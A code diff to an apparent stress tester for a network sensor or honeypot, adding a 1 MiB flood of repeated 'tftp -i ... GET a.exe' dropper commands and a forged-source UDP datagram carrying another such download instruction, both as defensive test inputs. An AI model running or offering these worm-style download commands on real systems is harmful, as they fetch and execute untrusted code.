@@ -54,6 +54,31 @@ fn dce_bind() -> Vec<u8> {
 }
 
 /// The first message a client of `port` sends and the sensor answers.
+/// 1 MiB of repeated `tftp -i` commands (issue 16's instruction bomb): the
+/// sensor's search must stay linear and stop at its instruction cap.
+fn instruction_bomb() -> &'static [u8] {
+    static BOMB: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
+    BOMB.get_or_init(|| {
+        b"tftp -i 0.0.0.0 GET a.exe & "
+            .iter()
+            .copied()
+            .cycle()
+            .take(1 << 20)
+            .collect()
+    })
+}
+
+/// One UDP datagram carrying a download instruction to the sensor's UDP
+/// port 69 on `t`'s address, from 127.66.66.66, which never connects by
+/// TCP: the sensor must act on none of them.
+async fn forged_datagram(t: SocketAddr) {
+    let Ok(u) = tokio::net::UdpSocket::bind("127.66.66.66:0").await else {
+        return;
+    };
+    let to = SocketAddr::new(t.ip(), 69);
+    let _ = u.send_to(b"tftp -i 127.66.66.66 GET x.exe\r\n", to).await;
+}
+
 fn hello_for(port: u16) -> Vec<u8> {
     match port {
         135 | 1025 => dce_bind(),
@@ -186,7 +211,18 @@ async fn main() {
                         ok.fetch_add(1, Ordering::Relaxed);
                         if mode == "soak" {
                             // Hostile mixes: garbage, slowloris byte, half-open,
-                            // an SMB frame declaring 128 KiB it never sends.
+                            // an SMB frame declaring 128 KiB it never sends;
+                            // one in 1,000 is a 1 MiB instruction bomb, and
+                            // one in 100 also sends a datagram with a download
+                            // instruction from a loopback address that never
+                            // completed a handshake (a forged source, as far
+                            // as the sensor can tell).
+                            if i % 1000 == 999 {
+                                let _ = s.write_all(instruction_bomb()).await;
+                            }
+                            if i % 100 == 42 {
+                                forged_datagram(t).await;
+                            }
                             match i % 4 {
                                 0 => {
                                     let _ = s.write_all(&[0xde; 512]).await;
